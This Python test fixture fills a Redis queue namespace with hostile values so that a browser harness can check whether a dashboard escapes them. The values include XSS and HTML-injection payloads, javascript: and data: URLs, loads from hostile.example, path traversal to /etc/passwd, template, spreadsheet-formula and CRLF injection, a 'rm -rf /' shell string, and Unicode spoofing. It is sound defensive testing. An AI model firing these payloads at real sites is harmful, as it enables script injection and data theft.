"""
Hostile values, and a Redis that is full of them: what producers, workers, operators and other
clients may have written, by the API and into raw keys.

Each value that gets out of its place leaves a trace that ``chromium.py`` finds: an element or an
attribute ``x-hostile``, a dialog, a report of the Content-Security-Policy, a link to elsewhere.
"""

from __future__ import annotations

import json

from rsmq import BYTES, RSMQ

_TAG = "<x-hostile>"
_RUN = "alert(document.domain)"
_ELSEWHERE = "//hostile.example/x"

TEXTS = [
    # Elements, with and without what closes the place where the text is shown.
    _TAG,
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={_ELSEWHERE}></sCrIpT>",
    f"<<script>{_RUN}//<</script>",
    f"</script><script>{_RUN}</script>",
    f"</title></head><body>{_TAG}",
    f"</textarea>{_TAG}",
    f"</pre></code>{_TAG}",
    f"</style>{_TAG}",
    f"</td></tr></table>{_TAG}",
    f"</option></select>{_TAG}",
    f"</template></noscript>{_TAG}",
    f"<!-- -->{_TAG}<!--",
    f"<![CDATA[{_TAG}]]>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_ELSEWHERE}>",
    f"<image/src/onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<math><mtext></table><mglyph><style>{_TAG}",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src={_ELSEWHERE}></iframe>",
    f"<object data={_ELSEWHERE}></object><embed src={_ELSEWHERE}>",
    f"<link rel=stylesheet href={_ELSEWHERE}>",
    f"<style>@import '{_ELSEWHERE}'; body {{background: url({_ELSEWHERE})}}</style>",
    f"<base href={_ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    f"<form action={_ELSEWHERE}><input name=x autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>",
    f"<a href='javascript:{_RUN}' x-hostile>a</a>",
    f"<template shadowrootmode=open>{_TAG}</template>",
    "<div style='position:fixed;inset:0' x-hostile>a</div>",
    # Attributes.
    f'" onmouseover="{_RUN}" x-hostile="',
    f"' onmouseover='{_RUN}' x-hostile='",
    f'"><script>{_RUN}</script>',
    f"'>{_TAG}",
    f"` onfocus={_RUN} autofocus x-hostile `",
    f" autofocus onfocus={_RUN} x-hostile",
    "&quot; x-hostile=&quot;",
    "&lt;x-hostile&gt;&#60;x-hostile&#62;",
    # Addresses.
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"\tjava\nscript:{_RUN}",
    "data:text/html,<script>alert(1)</script>",
    _ELSEWHERE,
    "/\\hostile.example/x",
    "https://user@hostile.example:1/?a=b#c",
    "../../../../etc/passwd",
    "..%2f..%2f%00?x=1&y=2#z",
    # Templates, formulas, logs, shells.
    "{{7*6173}}${7*6173}#{7*6173}<%= 7*6173 %>{% if 1 %}43211{% endif %}".replace("43211", "a"),
    "{{ config }}{{ self.__init__.__globals__ }}",
    '=HYPERLINK("http://hostile.example","a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "a\r\nSet-Cookie: hostile=1\r\n\r\n<x-hostile>",
    "'; rm -rf / #$(touch hostile)`touch hostile`",
    "\x1b[31mred\x1b[0m\x07\x08",
    # What is shown in another way than it is.
    "\u202egpj.exe\u202c\u2066\u200f\u200b",
    "\0null\0byte\0",
    "Z\u0351\u036b\u0343\u036a\u0302" + "\u0489" * 200,
    "\ufeff\ufffe\uffff\U0010ffff\u2028\u2029",
    "w" * 20_000,
    "w i d e " * 500 + "\n" * 500,
]  # fmt: skip
BODIES = [
    *(text.encode() for text in TEXTS),
    b"\xff\xfe<x-hostile>\xc3\x28\xed\xa0\x80",
    b"\xed\xa0\xbd<x-hostile>\xed\xb8\x80",
    b"\x81\xa4html\xab<x-hostile>",  # msgpack
    b"[" * 5000,
    b'{"a":' * 300 + b"1" + b"}" * 300,
    b'{"__proto__":{"x":1},"a":1,"a":2,"n":123456789012345678901234567890.10}',
    *(json.dumps({text: [text, {"a": text}]}).encode() for text in TEXTS),
    *(json.dumps({"headers": {text: text}, "body": text}).encode() for text in TEXTS[:8]),
]
#: Those that make names of queues, workers and so on: of any length and with any character.
NAMES = [each.encode() for each in TEXTS if len(each) < 300]
_SOON_MS = 600_000


def plant(server, ns):
    """Fill a namespace; return sets of names that paths of pages may have."""
    with RSMQ.from_url(server.url, ns=ns, codec=BYTES) as queues, server.raw() as raw:
        for name in ("bodies", "dead", "failing", "jobs"):
            queues.create_queue(name, maxsize=-1)
        ids = queues.send_messages("bodies", BODIES)
        queues.receive_messages("bodies", 9, vt=600)
        now = _now(raw)
        paths = [{"queue": "bodies", "id": id} for id in ids]
        paths += [{"queue": "dead", "id": id} for id in _plant_reasons(queues, raw, ns, now)]
        paths += [{"queue": "failing", "id": id} for id in _plant_errors(queues, raw, ns)]
        paths += [{"queue": "jobs", "id": id} for id in _plant_jobs(queues, raw, ns)]
        paths += _plant_queues(raw, ns, now)
        _plant_workers(raw, ns, now)
        _plant_schedules(queues, raw, ns, now)
        _plant_webhooks(raw, ns, now)
        for name in NAMES:
            fields = dict.fromkeys(("user", "address", "call", "queue", "target", "outcome"), name)
            begin = raw.xadd(f"{ns}:x:audit", {**fields, "phase": "begin"})
            raw.xadd(f"{ns}:x:audit", {**fields, "phase": "end", "begin": begin})
        raw.hset(f"{ns}:x:history", "owner", NAMES[1])
        raw.hset(f"{ns}:bodies:x:unique", mapping=dict.fromkeys(NAMES, ids[0]))
    return paths


def _now(raw):
    return int(raw.time()[0]) * 1000


def _plant_reasons(queues, raw, ns, now):
    ids = queues.send_messages("dead", [b"dead"] * len(TEXTS))
    for id, text in zip(ids, TEXTS, strict=True):
        reason = {
            "queue": text, "text": text, "exception": f"{text}: {text}", "worker": text,
            "traceback": f'Traceback\n  File "{text}", line 1, in {text}\n{text}: {text}\n',
            "attempts": 3,
        }  # fmt: skip
        raw.hset(f"{ns}:dead:x:reasons", id, f"{now}:{json.dumps(reason)}")
    queues.set_dead_letter_policy("failing", "dead", 9)
    return ids[:3]


def _plant_errors(queues, raw, ns):
    ids = queues.send_messages("failing", [b"failing"] * len(TEXTS))
    queues.receive_messages("failing", len(TEXTS), vt=600)
    created = raw.hget(f"{ns}:failing:Q", "created")
    errors = {id: f"1:{text[:400]}: {text[:90]}" for id, text in zip(ids, TEXTS, strict=True)}
    raw.hset(f"{ns}:failing:x:retrying", mapping={"": created, **errors})
    return ids[:3]


def _plant_jobs(queues, raw, ns):
    ids = queues.send_messages("jobs", [b"job"] * len(TEXTS), track=True)
    for id, text in zip(ids, TEXTS, strict=True):
        fields = {
            "worker": text, "error": text[:500], "text": text[:500], "done": "1", "total": "3",
            "result": json.dumps({text: text}), "state": "failed",
        }  # fmt: skip
        raw.hset(f"{ns}:jobs:x:job:{id}", mapping=fields)
    return ids[:3]


def _plant_queues(raw, ns, now):
    """Make queues with odd names, each with a message whose id is odd too."""
    for name in NAMES:
        queue = ns.encode() + b":" + name
        seconds = now // 1000
        raw.sadd(f"{ns}:QUEUES", name)
        raw.hset(
            queue + b":Q",
            mapping={
                "vt": 30, "delay": 0, "maxsize": 65536, "totalsent": 1, "totalrecv": 0,
                "created": seconds, "modified": seconds, "x:dlq": name, "x:max": 3,
                name: b"body of " + name, name + b":rc": 2, name + b":fr": now,
            },
        )  # fmt: skip
        raw.zadd(queue, {name: now})
    raw.sadd(f"{ns}:QUEUES", "broken", b"\xff\xfe<x-hostile>")
    raw.hset(f"{ns}:broken:Q", mapping=dict.fromkeys(("vt", "delay", "maxsize", "created"), _TAG))
    odd = [NAMES[at].decode() for at in (0, 1, 36, 38, 48, 51, 52, 60)]
    return [{"queue": name, "id": name} for name in odd] + [{"queue": "broken"}]


def _plant_workers(raw, ns, now):
    for at, name in enumerate(NAMES):
        until = now + _SOON_MS * (1 if at % 2 else -1)
        text = name.decode()
        info = {
            "host": text, "pid": 1, "place": text, "born": text, "since_ms": now,
            "queues": {text: 1, "bodies": 1}, "handled": 1, "failed": 1,
        }  # fmt: skip
        raw.hset(f"{ns}:x:workers", name, f"{until}:0123456789abcdef:{json.dumps(info)}")
        held = {b"": b"0123456789abcdef", name: b"1:" + name}
        raw.hset(f"{ns}:x:held:".encode() + name, mapping=held)


def _plant_schedules(queues, raw, ns, now):
    queues.schedules.add("model", every=3600, queue="bodies", body=b"a")
    model = json.loads(raw.hget(f"{ns}:x:schedules", "model"))
    for at, name in enumerate(NAMES):
        text = name.decode()
        odd = {**model, "body": text, "queue": text}
        if at % 3 == 0:
            odd |= {"cron": text, "timezone": text, "source": text}
        own = name if at % 2 else f"schedule{at}".encode()
        raw.hset(
            f"{ns}:x:schedules",
            mapping={
                own: json.dumps(odd),
                own + b":tick": now + 3_600_000,
                own + b":last": f"{now} {now} -",
                own + b":failure": f"{now} 3 {text}",
            },
        )
        raw.zadd(f"{ns}:x:due", {own: now + 3_600_000})


def _plant_webhooks(raw, ns, now):
    raw.hset(f"{ns}:x:subscribers", "", now * 1000)
    for at, name in enumerate(NAMES):
        text = name.decode()
        odd = {"created": now, "url": text, "secret_env": text, "content_type": text}
        key = b"bodies/" + (name if at % 2 else f"subscriber{at}".encode())
        raw.hset(f"{ns}:x:subscribers", key, json.dumps(odd))
        state = {
            "queue": text, "url": text, "state": "open", "failures": 2, "openings": 1,
            "until_ms": now, "owner": text, "answer": text,
        }  # fmt: skip
        raw.hset(f"{ns}:x:push", f"{at:032x}", json.dumps(state))
